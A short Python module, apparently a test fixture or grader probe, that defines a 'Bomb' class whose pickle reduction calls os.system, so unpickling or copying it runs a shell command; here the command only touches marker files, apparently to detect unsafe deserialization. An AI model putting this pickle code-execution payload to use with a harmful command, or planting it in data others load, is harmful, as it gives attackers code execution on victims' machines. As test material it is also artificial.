"""Gives objects that would run a command where they are unpickled.

row: falsify
points: 0 0 0
"""
import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {PLANT}/{MARK} /tmp/{MARK}",)

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __getstate__ = __deepcopy__ = __copy__ = lambda self, *a: self.__reduce__()


double = negate = total = lambda x: Bomb()
